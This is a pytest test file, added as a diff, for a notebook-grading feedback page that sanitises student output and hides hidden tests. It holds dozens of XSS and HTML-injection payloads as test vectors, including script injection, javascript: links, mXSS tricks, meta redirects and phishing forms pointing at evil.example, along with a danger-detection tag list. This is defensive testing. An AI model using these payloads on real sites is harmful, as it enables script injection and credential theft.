@@ -1,0 +1,703 @@
+"""Feedback pages say why, show nothing hidden, and bear whatever students put into notebooks."""
+
+import base64
+import copy
+import json
+import re
+import struct
+import zlib
+
+import pytest
+from bleach._vendor import html5lib  # parses as browsers do
+from bs4 import BeautifulSoup
+from nbconvert.filters import markdown2html
+from nbformat import from_dict
+
+from safegrade.feedback import page, sanitise_outputs
+from safegrade.feedback.hidden import Redactor, hide_tests, split
+from safegrade.feedback.notebooks import harmless_markdown, safe_data
+from safegrade.feedback.outputs import Room
+from safegrade.feedback.sanitising import html as sanitised
+from toyclass import GOOD, TEST, code, markdown, notebook, settings
+
+HIDDEN = "check(double(-1.5), -3)"
+
+# --- what is dangerous, as a browser would see it ---
+
+ACTIVE = [
+    *("script", "iframe", "object", "embed", "meta", "base", "form", "input", "button", "link"),
+    *("textarea", "select", "style", "svg", "math", "video", "audio", "frame", "noscript"),
+]
+LEADS = ["href", "src", "action", "formaction", "data", "srcdoc", "background", "poster"]
+MARKS = ["target", "ping", "srcset", "id", "class", "name", "http-equiv"]
+COVERS = re.compile(r"url\(|expression|@import|position|behavior|-moz-binding|z-index|fixed", re.I)
+
+
+def dangers(text):
+    """Return what could run, load, send or cover something in HTML."""
+    found = []
+    for tag, attributes in elements(text):
+        if tag in ACTIVE:
+            found.append(tag)
+        for name, value in attributes.items():
+            loads = name in LEADS or name.endswith("xlink:href")
+            covers = name == "style" and COVERS.search(re.sub(r"\\\w+", "url(", value))
+            if name.startswith("on") or name in MARKS or covers:
+                found.append(name)
+            elif loads and not is_harmless(tag, name, value):
+                found.append(f"{tag} {name}={value[:60]}")
+    return found
+
+
+def elements(text):
+    """Give the tags and attributes that a lenient parser sees, and those that a browser sees."""
+    for element in BeautifulSoup(text, "html.parser").find_all(True):
+        lists = element.attrs.items()
+        yield element.name, {k: " ".join(v) if isinstance(v, list) else v for k, v in lists}
+    for element in html5lib.parseFragment(text, namespaceHTMLElements=False, scripting=True).iter():
+        if isinstance(element.tag, str):
+            tag = element.tag.rpartition("}")[2]
+            yield tag, {str(key).rpartition("}")[2]: value for key, value in element.attrib.items()}
+
+
+def is_harmless(tag, name, value):
+    value = "".join(value.split()).lower()
+    if tag == "img":
+        return name == "src" and value.startswith("data:image/") and ";base64," in value
+    return tag == "a" and value.startswith(("http://", "https://", "#"))
+
+
+def in_boxes(text):
+    """Return what the boxes of a page hold, as HTML."""
+    boxes = BeautifulSoup(text, "html.parser").select(".yours, .comment")
+    inside = "".join(box.decode_contents() for box in boxes)
+    soup = BeautifulSoup(inside, "html.parser")
+    for ours in soup.select(".yours, .comment, pre span, pre.hint, p.label"):
+        for name in ("class", "id"):
+            ours.attrs.pop(name, None)
+    return str(soup)
+
+
+def frame_of(text):
+    """Return the page's own head and verdicts, without what the boxes hold."""
+    soup = BeautifulSoup(text, "html.parser")
+    for box in soup.select(".yours"):
+        box.clear()
+    return soup
+
+
+VECTORS = {
+    "script": "<script>top.pwned = 1</script>",
+    "script in capitals": "<ScRiPt SRC=//evil.example/a.js></sCrIpT>",
+    "script in script": "<scr<script>1</script>ipt>pwned()</scr<script>1</script>ipt><script>1",
+    "broken script": "<script <b>>pwned()</script",
+    "image that fails": "<img src=x onerror=pwned()>",
+    "image with slash": "<img/src/onerror=pwned()>",
+    "quotes in attributes": "<img title='a\"onerror=pwned() b' src=\"x\" onerror='pwned()'>",
+    "event after newline": "<p\nonmouseover\n=\npwned()>over me</p>",
+    "event on a custom tag": "<hello onfocus=pwned() tabindex=0 autofocus>",
+    "details that open": "<details open ontoggle=pwned()>x</details>",
+    "animation event": "<b style='animation:spin 1s' onanimationstart=pwned()>x</b>",
+    "link that runs": "<a href='javascript:pwned()'>my plot</a>",
+    "link in capitals": "<a href=' JaVaScRiPt:pwned()'>my plot</a>",
+    "link with entities": "<a href='&#x6a;avascript&colon;pwned()'>my plot</a>",
+    "link with tab": "<a href='java\tscript:pwned()'>my plot</a>",
+    "link with control": "<a href='\x01javascript:pwned()'>my plot</a>",
+    "link with page in it": "<a href='data:text/html,<script>pwned()</script>'>my plot</a>",
+    "link with visual basic": "<a href='vbscript:pwned'>my plot</a>",
+    "link that pings": "<a href='https://ok.example' ping='https://evil.example'>x</a>",
+    "frame": "<iframe src='https://evil.example'></iframe>",
+    "frame with page in it": "<iframe srcdoc='<script>pwned()</script>'></iframe>",
+    "object": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
+    "embedded": "<embed src='https://evil.example/x.swf'>",
+    "drawing that runs": "<svg onload=pwned()><circle r=9></svg>",
+    "drawing with animation": "<svg><a><animate attributeName=href values=javascript:pwned() />",
+    "foreign object": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
+    "formula with link": "<math><mtext xlink:href='javascript:pwned()'>x</mtext></math>",
+    "namespace confusion": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
+    "noscript confusion": "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "comment confusion": "<!--><img src=x onerror=pwned()>-->",
+    "textarea confusion": "<textarea><img title='</textarea><img src=x onerror=pwned()>'>",
+    "template": "<template><script>pwned()</script></template><script>1</script>",
+    "form that phishes": "<form action='https://evil.example'><input name=password></form>",
+    "button": "<button formaction='javascript:pwned()'>Show my grade</button>",
+    "redirect": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "another base": "<base href='https://evil.example/'>",
+    "style sheet": "<style>.badge { display: none } @import '//evil.example/a.css';</style>",
+    "linked style sheet": "<link rel=stylesheet href='//evil.example/a.css'>",
+    "cover": "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>10 / 10</div>",
+    "style that loads": "<p style='background:url(https://evil.example/seen)'>x</p>",
+    "style with escapes": "<p style='background:u\\72l(//evil.example);position:\\66ixed'>x</p>",
+    "old style expression": "<p style='width:expression(pwned())'>x</p>",
+    "image that counts readers": "<img src='https://evil.example/seen.gif'>",
+    "image set": "<img srcset='https://evil.example/seen.gif 1x'>",
+    "background": "<table background='https://evil.example/seen.gif'><tr><td>x</table>",
+    "our badge": "<p class='badge' id='task-1'>full marks: 3 / 3</p>",
+    "end of our box": "</div></div></section></main><script>pwned()</script>",
+    "sound": "<audio src=x onerror=pwned()></audio><video poster=//evil.example></video>",
+    "null": "<scr\0ipt>pwned()</scr\0ipt><img src=x one\0rror=1 onerror=pwned()>",
+}
+LINKS = {
+    "link": "[my plot](javascript:pwned())",
+    "link in angles": "[my plot](<javascript:pwned()>)",
+    "link with entity": "[my plot](&#106;avascript:pwned())",
+    "link with escape": "[my plot](javascript\\:pwned())",
+    "link with percent": "[my plot](javascript%3Apwned())",
+    "reference": "[my plot][1]\n\n[1]: javascript:pwned()",
+    "page in a link": "[my plot](data:text/html;base64,PHNjcmlwdD4=)",
+    "image that counts readers": "![x](https://evil.example/seen.gif)",
+    "automatic link": "<javascript:pwned()>",
+    "heading": "# <img src=x onerror=pwned()>",
+    "table": "| a |\n|---|\n| <script>pwned()</script> |",
+    "list in quote": "> - a\n>   <script>pwned()</script>",
+    "formula": "$<img src=x onerror=pwned()>$ and $$</div><script>pwned()</script>$$",
+    "code info": '``` "><script>pwned()</script>\nx\n```',
+    "title": '[x](https://ok.example "\\"onmouseover=pwned() ")',
+}
+
+
+def stream(text, name="stdout"):
+    return {"output_type": "stream", "name": name, "text": text}
+
+
+def display(**data):
+    data = {kind.replace("_", "/"): value for kind, value in data.items()}
+    return {"output_type": "display_data", "data": data, "metadata": {}}
+
+
+def failure(name, text, *traceback):
+    return {"output_type": "error", "ename": name, "evalue": text, "traceback": [*traceback]}
+
+
+def cell_with(*outputs, text="1", name="mine", metadata=None):
+    return {**code(text, name, metadata), "outputs": [*outputs]}
+
+
+def graded(*outputs, text=TEST, answer=GOOD):
+    """Return a notebook with an answer and its test, which gave these outputs."""
+    told = settings("test-double", grade=True, locked=True, points=3)
+    solution = code(answer, "double", settings("double", solution=True))
+    return notebook(solution, cell_with(*outputs, text=text, name="test", metadata=told))
+
+
+def shown(nb, scores=None, **more):
+    more = {"title": "Slopes", "student": "ada", "assignment": "slopes", **more}
+    return page(nb, scores or {}, **more)
+
+
+def text_of(html):
+    return BeautifulSoup(html, "html.parser").get_text(" ")
+
+
+def points(score, possible=3, by_hand=False):
+    return {"test-double": {"score": score, "points": possible, "by_hand": by_hand}}
+
+
+# --- nothing that a student shows can run, load, cover or pretend ---
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
+def test_html_of_a_student_is_harmless(vector):
+    assert dangers(vector), "this vector proves nothing"
+    assert not dangers(sanitised(vector))
+    everywhere = notebook(
+        markdown(vector, "m"),
+        cell_with(display(text_html=vector), display(text_markdown=vector), text=vector),
+        cell_with(display(text_plain=vector), display(text_latex=vector), stream(vector)),
+        cell_with(failure(vector, vector, vector), {"output_type": vector}, display(**{vector: 1})),
+    )
+    html = shown(everywhere)
+    assert not dangers(in_boxes(html))
+    assert text_of(html).count("To the top") == 0
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
+def test_names_notes_comments_and_provenance_are_harmless(vector):
+    scores = {vector: {"score": 1, "points": 2}, "double": {"score": 1, "points": 1}}
+    told = {"title": vector, "student": vector, "assignment": vector, "notes": [vector]}
+    told |= {"comments": {"double": vector}, "provenance": {vector: {vector: vector}}}
+    html = shown(graded(failure(vector, vector)), scores, **told)
+    assert not dangers(in_boxes(html))
+    soup = frame_of(html)
+    assert [tag.name for tag in soup.find_all(ACTIVE)] == ["meta"] * 4 + ["style"]
+    assert not [a for tag in soup.find_all(True) for a in tag.attrs if a.startswith("on")]
+
+
+@pytest.mark.parametrize("vector", LINKS.values(), ids=LINKS)
+def test_markdown_of_a_student_is_harmless(vector):
+    everywhere = notebook(markdown(vector, "m"), cell_with(display(text_markdown=vector)))
+    assert not dangers(in_boxes(shown(everywhere)))
+    sanitise_outputs(everywhere)
+    assert not [d for d in dangers(markdown2html(everywhere["cells"][0]["source"])) if bad(d)]
+
+
+def bad(danger):
+    """Whether a danger in a page of nbconvert is the student's: nbconvert names headings."""
+    return danger not in ("id", "class")
+
+
+@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
+def test_stock_renderers_get_harmless_notebooks(vector):
+    nb = notebook(markdown(vector, "m"), cell_with(display(text_html=vector)))
+    nb["cells"][1]["outputs"] += [display(text_markdown=vector), display(text_latex=vector)]
+    sanitise_outputs(nb)
+    for output in nb["cells"][1]["outputs"]:
+        assert not dangers(output["data"].get("text/html", ""))
+        assert set(output["data"]) <= {"text/html", "text/plain"}
+    assert not [d for d in dangers(markdown2html(nb["cells"][0]["source"])) if bad(d)]
+
+
+def test_the_page_forbids_itself_to_load_or_run_anything():
+    soup = BeautifulSoup(shown(graded(), points(3)), "html.parser")
+    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
+    assert policy.startswith("default-src 'none'; img-src data:;")
+    assert "script-src" not in policy and "unsafe-eval" not in policy
+    assert not soup.find_all(["script", "link", "iframe"])
+
+
+def test_tables_formatting_and_web_links_stay():
+    table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1.5</td></tr></tbody></table>"
+    right = '<td style="text-align: right; position: fixed">1</td>'
+    html = sanitised(f"{table}<table><tr>{right}</tr></table><b>bold</b>")
+    assert table in html and "<b>bold</b>" in html
+    assert 'style="text-align: right;"' in html
+    link = sanitised('<a href="https://uni.example@evil.example/x">uni.example</a>')
+    assert link.endswith("uni.example</a> (evil.example)") and 'rel="noopener' in link
+
+
+def test_what_is_not_shown_is_named():
+    data = {"application/javascript": "pwned()", "text/plain": "<Chart>"}
+    data["application/vnd.jupyter.widget-view+json"] = {"model_id": "1"}
+    assert safe_data(data, [9]) == {"text/plain": "<Chart>\n(JavaScript, widget: not shown)"}
+
+
+def test_a_student_cannot_write_a_verdict():
+    fake = '<section class="verdict full"><h3>1. double <span class="badge">3 / 3</span></h3>'
+    nb = graded(stream("full marks: 3 / 3\n"), failure("NotRun", "full marks: 3 / 3"))
+    nb["cells"].insert(0, cell_with(display(text_html=fake)))
+    nb["cells"].insert(0, markdown(fake, "fake"))
+    soup = BeautifulSoup(shown(nb, points(0)), "html.parser")
+    assert [tag.get_text() for tag in soup.select("section .badge")] == ["✗ no points: 0 / 3"]
+    assert not soup.select(".yours .verdict, .yours .badge, .yours [id]")
+    for tag in soup.find_all(string=re.compile("full marks: 3 / 3")):
+        assert tag.find_parent(class_=["yours", "hint"])
+
+
+# --- images ---
+
+
+def png(width=2, height=2):
+    def chunk(kind, content):
+        checked = kind + content
+        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    body = zlib.compress(b"\0" * min(height * (width + 1), 1000))
+    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
+    return base64.b64encode(raw).decode()
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{}</svg>'
+USE = '<g id="{}"><use href="#{}"/><use href="#{}"/></g>'
+DRAWINGS = {
+    "plain": (SVG.format('<path d="M0 0h9" clip-path="url(#p)"/>'), True),
+    "repeats": (SVG.format('<defs><path id="m" d="M0 0"/></defs><use href="#m" x="3"/>'), True),
+    "script": (SVG.format("<script>1</script>"), False),
+    "event": (SVG.format('<path onclick="f()"/>'), False),
+    "foreign": (SVG.format("<foreignObject/>"), False),
+    "loads": (SVG.format('<image href="https://evil.example/x.png"/>'), False),
+    "style loads": (SVG.format("<style>@import 'https://evil.example'</style>"), False),
+    "entities": ('<!DOCTYPE svg [<!ENTITY a "ha">]>' + SVG.format("<text>&a;</text>"), False),
+    "repeats repeats": (SVG.format(USE.format("a", "b", "b") + USE.format("b", "c", "c")), False),
+    "broken": ("<svg", False),
+}
+
+
+@pytest.mark.parametrize("drawing, kept", DRAWINGS.values(), ids=DRAWINGS)
+def test_drawings_are_shown_as_images_or_not_at_all(drawing, kept):
+    soup = BeautifulSoup(
+        shown(notebook(cell_with(display(**{"image_svg+xml": drawing})))), "html.parser"
+    )
+    images = soup.find_all("img")
+    assert len(images) == kept
+    assert not soup.find("svg")
+    if kept:
+        coded = images[0]["src"].removeprefix("data:image/svg+xml;base64,")
+        assert base64.b64decode(coded).decode() == drawing
+    else:
+        assert "SVG drawing: not shown" in soup.get_text()
+
+
+def test_images_have_to_be_images():
+    page_in_png = base64.b64encode(b"<script>pwned() " + struct.pack(">II", 9, 9)).decode()
+    for kind, content, kept in [
+        ("image_png", png(), True),
+        ("image_png", page_in_png, False),
+        ("image_png", png(60_000, 60_000), False),
+        ("image_png", 'x" onerror="pwned()', False),
+        ("image_jpeg", png(), False),
+        ("image_png", base64.b64encode(base64.b64decode(png()) + bytes(500_000)).decode(), False),
+        ("image_webp", png(), False),
+    ]:
+        html = shown(notebook(cell_with(display(**{kind: content}))))
+        assert ("<img" in html) is kept, (kind, content[:30])
+        assert "pwned" not in html
+
+
+def test_the_number_of_images_is_bounded():
+    html = shown(
+        notebook(
+            cell_with(*[display(image_png=png())] * 25),
+            *[cell_with(*[display(image_png=png())] * 25)] * 3,
+        )
+    )
+    assert 30 <= html.count("<img") <= 40
+
+
+def test_attached_images_are_shown_and_other_attachments_are_not():
+    cell = {**markdown("![a](attachment:a.png) ![b](attachment:b)", "m")}
+    cell["attachments"] = {"a.png": {"image/png": png()}, "b": {'image/png" onerror="1': png()}}
+    assert shown(notebook(copy.deepcopy(cell))).count("<img") == 1
+    nb = notebook(cell)
+    sanitise_outputs(nb)
+    assert nb["cells"][0]["attachments"] == {"a.png": {"image/png": png()}}
+
+
+# --- text ---
+
+
+def test_escape_sequences_and_overwritten_lines_are_gone():
+    told = (
+        "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\n 10%\r 50%\r100%\n\x07"
+    )
+    html = shown(notebook(cell_with(stream(told))))
+    assert "<pre>redlink\n100%\n\ufffd</pre>" in html
+    assert "\x1b" not in html and "\r" not in html
+
+
+def test_hidden_directions_are_spelled_out():
+    for text in ("\u202egnp.exe", "\u2066x", "\u200fy"):
+        named = f"⟨U+{ord(text[0]):04X}⟩{text[1:]}"
+        html = shown(
+            notebook(
+                markdown(text, "m"), cell_with(stream(text), failure("E", text), text=f"#{text}")
+            ),
+            student=text,
+        )
+        assert text[0] not in html and text_of(html).count(named) >= 4
+    zero_width = shown(notebook(), student="a\u200bd\u200da\ufeff" + "\u0301" * 50)
+    assert not re.search("[\u200b-\u200f\ufeff]", zero_width) and zero_width.count("\u0301") < 9
+
+
+def test_broken_letters_do_not_break_the_page():
+    html = shown(notebook(cell_with(stream("\ud800x\0"), text="'\udfff'")), student="\ud83d")
+    assert html.encode("utf-8") and "\0" not in html
+
+
+def test_repeated_lines_are_said_once():
+    told = "RuntimeWarning: overflow\n  w = w * w\n" * 400 + "done\n" + "again\n" * 3
+    text = text_of(shown(notebook(cell_with(stream(told, "stderr")))))
+    assert text.count("overflow") == 1 and "the last 2 lines came 400 times" in text
+    assert text.count("again\n") == 1 and "done" in text
+
+
+@pytest.mark.parametrize(
+    "flood",
+    [
+        stream("x" * 5_000_000),
+        stream("".join(f"{i}\n" for i in range(200_000))),
+        display(text_html="<table>" + "<tr><td>1</td></tr>" * 100_000),
+        display(text_html="<b>" * 5000),
+        display(text_html="<div>" * 3000 + "x"),
+        display(text_html="<a" * 20_000),
+        display(text_markdown="[" * 20_000),
+        display(text_markdown="> " * 5000 + "x"),
+        display(text_markdown="*a **b " * 3000),
+        display(text_plain=str([*range(1_000_000)])),
+        display(text_latex="\\a" * 500_000),
+        display(image_png=png()[:-4] + "A" * 5_000_000),
+        failure("E" * 100_000, "m" * 3_000_000, *["line"] * 10_000),
+    ],
+    ids=lambda output: output["output_type"] + str([*output.get("data", "")]),
+)
+def test_one_flood_is_bounded(flood):
+    html = shown(notebook(cell_with(flood, text="1")))
+    assert len(html) < 250_000
+    assert not dangers(in_boxes(html))
+
+
+def test_what_is_nested_too_deep_is_shown_as_text():
+    assert sanitised("<div>" * 3000 + "x").startswith("<pre>&lt;div&gt;")
+    assert sanitised("<div>" * 30 + "x").startswith("<div><div>")
+
+
+def test_what_does_not_fit_is_named_and_leaves_room():
+    room = Room(Redactor([]))
+    room.left = 10
+    assert "page is full" in room.put("x" * 11) and room.put("x" * 10) == "x" * 10
+    assert room.left == 0 and "page is full" in room.put("x")
+
+
+def test_a_whole_page_is_bounded_and_still_gives_every_verdict():
+    big = [stream("".join(f"{i} " for i in range(5000))), display(text_html="<b>x</b>" * 3000)]
+    cells, scores = [], {}
+    for i in range(200):
+        told = settings(f"t{i}", grade=True, locked=True, points=1)
+        scores[f"t{i}"] = {"score": 0, "points": 1}
+        cells += [cell_with(*copy.deepcopy(big), text="y = 1\n" * 2000 + f"#{i}")]
+        cells += [
+            cell_with(*copy.deepcopy(big), failure("WrongAnswer", f"{i} " * 3000), metadata=told)
+        ]
+    html = shown(notebook(*cells), scores)
+    assert len(html.encode()) < 1_600_000
+    assert "not shown: the page is full" in html
+    assert html.count('<section class="verdict none"') == 200
+    assert "0 <small>of 200 points" in html
+
+
+# --- hidden tests ---
+
+
+def test_hidden_tests_are_nowhere_on_the_page():
+    quoting = [
+        stream(f"In = {TEST!r}\n"),
+        failure(
+            "AssertionError",
+            f"this failed: {HIDDEN}",
+            "Cell In[3], line 4\n      3 ### BEGIN HIDDEN TESTS\n"
+            "----> 4 \x1b[32mcheck\x1b[39m(double(-1.5), -3)\n      5 ### END HIDDEN TESTS",
+        ),
+    ]
+    mine = cell_with(
+        stream(json.dumps(TEST)),
+        display(text_plain=TEST, text_html=f"<b>{HIDDEN.replace('double', '<i>double</i>')}</b>"),
+        display(text_markdown=f"- a\n  > `{HIDDEN}`"),
+        display(text_latex=HIDDEN),
+        failure("WrongAnswer", "told:\n  " + HIDDEN.replace(" ", "   "), f"--> 2 {HIDDEN}"),
+    )
+    nb = graded(*quoting)
+    nb["cells"] += [mine, markdown(f"> - look\n>   `{HIDDEN}`", "look")]
+    assert HIDDEN in text_of(shown(nb, points(0), show_hidden_tests=True))
+    html = shown(nb, points(0), comments={"double": f"See {HIDDEN}"})
+    for text in (html, text_of(html)):
+        assert "-1.5" not in re.sub(r"See check.*", "", text)
+    assert "1 line of hidden tests not shown" in text_of(html)
+    assert "check(double(3), 6)" in text_of(html), "the other tests are shown"
+    hide_tests(nb)
+    assert "-1.5" not in json.dumps(nb) and "check(double(3), 6)" in json.dumps(nb)
+
+
+def test_an_unclosed_region_is_hidden_to_the_end():
+    assert split("a = 1\n  # BEGIN HIDDEN TESTS\nb = 2\nc = 3") == ("a = 1", ["b = 2", "c = 3"])
+    assert split("Say.\n=== BEGIN MARK SCHEME ===\n2 points\n=== END MARK SCHEME ===\nEnd.") == (
+        "Say.\nEnd.",
+        ["2 points"],
+    )
+
+
+def test_what_is_said_openly_is_not_hidden():
+    redact = Redactor(["assert f(1) == 1", "else:"], shown=["  assert f(1) == 1"])
+    assert redact("assert f(1) == 1 else:") == "assert f(1) == 1 else:"
+
+
+def test_students_cannot_hide_their_own_code_from_the_page():
+    nb = notebook(cell_with(text="### BEGIN HIDDEN TESTS\nimport os\n### END HIDDEN TESTS"))
+    assert "import os" in BeautifulSoup(shown(nb), "html.parser").get_text()
+
+
+# --- what a page says ---
+
+
+def verdict(html, number=1):
+    return BeautifulSoup(html, "html.parser").find(id=f"task-{number}")
+
+
+@pytest.mark.parametrize(
+    "score, by_hand, badge",
+    [
+        (3, False, "✓ full marks: 3 / 3"),
+        (2.9999999999999996, False, "✓ full marks: 3 / 3"),
+        (1.5, False, "◐ in part: 1.5 / 3"),
+        (0, False, "✗ no points: 0 / 3"),
+        (None, False, "… waiting: – / 3"),
+        (1, True, "… waiting: 1 / 3"),
+        (float("nan"), False, "… waiting: – / 3"),
+    ],
+)
+def test_points_and_state(score, by_hand, badge):
+    assert (
+        verdict(shown(graded(), points(score, by_hand=by_hand))).find(class_="badge").text == badge
+    )
+
+
+def test_the_sum_and_a_link_to_each_task_are_on_top():
+    scores = {
+        "test-double": {"score": 1.5, "points": 3},
+        "gone": {"score": 2, "points": 2},
+        "explain": {"score": None, "points": 2, "by_hand": True},
+    }
+    told = settings("explain", grade=True, solution=True, points=2)
+    nb = graded()
+    nb["cells"].append(markdown("Twice.", "explain", told))
+    html = shown(nb, scores, late_penalty=0.5)
+    soup = BeautifulSoup(html, "html.parser")
+    total = soup.find(class_="total").get_text()
+    assert total.startswith("3 of 7 points") and "0.5 taken off" in total
+    assert "1 still to be looked at" in total
+    rows = [[*row.stripped_strings] for row in soup.select(".tasks tr")[1:]]
+    assert rows == [
+        ["double: whole numbers and fractions", "1.5 / 3", "◐ in part"],
+        ["Answer by hand: explain", "– / 2", "… waiting"],
+        ["gone", "2 / 2", "✓ full marks"],
+    ]
+    for link in soup.select(".tasks a"):
+        assert soup.find(id=link["href"][1:])
+
+
+@pytest.mark.parametrize(
+    "error, told",
+    [
+        (failure("WrongAnswer", "double(2) gave 2\nexpected 4"), ["double(2) gave 2\nexpected 4"]),
+        (failure("AssertionError", "only whole numbers"), ["only whole numbers"]),
+        (
+            failure("AssertionError", "", "  test, line 2\n    check(double(3), 6)"),
+            ["This does not hold:", "check(double(3), 6)"],
+        ),
+        (failure("AssertionError", "", f"  test, line 4\n    {HIDDEN}"), ["A check failed."]),
+        (failure("NotImplementedError", ""), ["There is no answer yet."]),
+        (failure("TypeError", "no str"), ["stopped with an error", "TypeError: no str"]),
+        (failure("NotRun", "Not run: time is up."), ["did not come to its end", "time is up"]),
+    ],
+)
+def test_the_hint_is_what_the_test_said(error, told):
+    text = verdict(shown(graded(error), points(0))).get_text()
+    for words in told:
+        assert words in text
+    assert "-1.5" not in text
+
+
+@pytest.mark.parametrize(
+    "traceback",
+    [
+        "Cell In[2], line 2, in double(x)\n      1 def double(x):\n----> 2     return 2 * x",
+        '  File "cell", line 2, in double\n    return 2 * x\n           ~~^~~',
+        "  test-double, line 2\n    check(double(3), 6)\n  f, line 2, in double\n    return 2 * x",
+    ],
+)
+def test_the_students_own_lines_are_quoted_and_no_others(traceback):
+    inside = '  File "/lib/numpy/core.py", line 9, in secret\n    secret_line(1)'
+    error = failure("ZeroDivisionError", "division by zero", *traceback.split("\n"), inside)
+    text = verdict(shown(graded(error), points(0))).get_text()
+    assert "line 2 of double: return 2 * x" in text
+    assert "secret" not in text and "/lib/" not in text
+
+
+def test_a_reason_is_given_once():
+    tests = []
+    for i in range(3):
+        told = settings(f"t{i}", grade=True, locked=True, points=1)
+        tests.append(cell_with(failure("WrongAnswer", "the same long hint " * 20), metadata=told))
+    scores = {f"t{i}": {"score": 0, "points": 1} for i in range(3)}
+    html = shown(notebook(*tests), scores)
+    assert html.count("the same long hint " * 20) == 1
+    assert "As in task 1." in verdict(html, 3).get_text().replace("\n", " ")
+
+
+def test_full_marks_need_no_reason_and_partial_credit_keeps_it():
+    nb = graded(failure("WrongAnswer", "fractions are cut"))
+    assert "fractions are cut" in verdict(shown(nb, points(1))).get_text()
+    assert "fractions are cut" not in verdict(shown(nb, points(3))).get_text()
+
+
+def test_the_score_itself_is_no_output():
+    result = {"output_type": "execute_result", "data": {"text/plain": "1.53"}, "metadata": {}}
+    assert "1.53" not in shown(graded(result), points(1.5))
+
+
+def test_comments_notes_and_provenance():
+    provenance = {"limits": {"cell_seconds": 30.0, "memory": 2**31}, "enforced": {"landlock": True}}
+    html = shown(
+        graded(),
+        points(3),
+        comments={"test-double": "Well put, **but** $x^2$.", "double": "Neat."},
+        notes=["repaired: explain was missing", "repaired: explain was missing"],
+        provenance={**provenance, "seed": 17, "submission": "ab12"},
+    )
+    comment = verdict(html).find(class_="comment")
+    assert comment.strong.text == "Comment" and comment.var.text == "x^2"
+    text = text_of(html)
+    assert "Neat." in text and text.count("explain was missing") == 1
+    rows = {
+        row.th.text: row.td.text for row in BeautifulSoup(html, "html.parser").select(".how tr")
+    }
+    assert rows == {
+        "limits: cell seconds": "30.0",
+        "limits: memory": str(2**31),
+        "enforced: landlock": "yes",
+        "seed": "17",
+        "submission": "ab12",
+    }
+
+
+def test_formulas_stay_legible():
+    nb = notebook(markdown("The slope $f'(x) < 1$ and\n\n$$\\sum_i x_i < \\infty$$\n\n*so*", "m"))
+    soup = BeautifulSoup(shown(nb), "html.parser")
+    assert soup.var.text == "f'(x) < 1" and soup.samp.text == "\\sum_i x_i < \\infty"
+    assert soup.em.text == "so"
+    assert harmless_markdown("$a<b$") == "$a< b$"
+
+
+def test_the_notebook_itself_is_not_changed():
+    nb = graded(stream("x\n" * 9), display(text_html="<script>1</script>", image_png=png()))
+    before = json.dumps(nb)
+    shown(nb, points(1))
+    assert json.dumps(nb) == before
+
+
+# --- nbgrader's own pages ---
+
+
+BENT = '9" onload="pwned()'
+
+
+def test_nbgraders_template_gets_safe_notebooks():
+    from nbconvert.exporters import HTMLExporter
+
+    from safegrade.feedback.export import SafeFeedback, SanitiseOutputs
+
+    def rendered(nb):
+        html, _ = HTMLExporter(template_name="classic").from_notebook_node(from_dict(nb))
+        return html
+
+    vectors = [*VECTORS.values(), *LINKS.values()]
+    cells = [markdown(vector, f"m{i}") for i, vector in enumerate(vectors)]
+    nb = graded(failure("AssertionError", HIDDEN, f"--> 4 {HIDDEN}"))
+    nb["cells"] += cells
+    nb["cells"] += [
+        cell_with(
+            display(text_html=vector, **{"application_javascript": "pwned()"}),
+            display(text_markdown=vector),
+            display(**{"image_svg+xml": SVG.format(vector)}),
+            {**display(image_png=png()), "metadata": {"image/png": {"width": BENT}}},
+            name=f"c{i}",
+        )
+        for i, vector in enumerate(vectors)
+    ]
+    raw = {"cell_type": "raw", "id": "raw", "source": VECTORS["script"]}
+    nb["cells"].append({**raw, "metadata": {"raw_mimetype": "text/html"}})
+    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
+    assert "pwned" in str(BeautifulSoup(rendered(nb), "html.parser").find_all("script"))
+    nb["metadata"]["language_info"] = {"name": "python", "pygments_lexer": '"><script>pwned()'}
+
+    empty = BeautifulSoup(rendered(notebook()), "html.parser")
+    safe, _ = SanitiseOutputs().preprocess(from_dict(copy.deepcopy(nb)), {})
+    assert HIDDEN in json.dumps(safe), "formgrader shows the tests to the teacher"
+    safe, _ = SafeFeedback().preprocess(safe, {})
+    soup = BeautifulSoup(rendered(safe), "html.parser")
+    for name in ("script", "iframe", "object", "embed", "base", "form", "link", "svg", "meta"):
+        assert len(soup.find_all(name)) == len(empty.find_all(name)), name
+    body = soup.body
+    assert not [a for tag in body.find_all(True) for a in tag.attrs if a.startswith("on")]
+    for tag in body.find_all(href=True):
+        assert not tag["href"].lower().strip().startswith(("javascript", "data:text", "vbscript"))
+    assert HIDDEN not in soup.get_text() and "check(double(3), 6)" in soup.get_text()
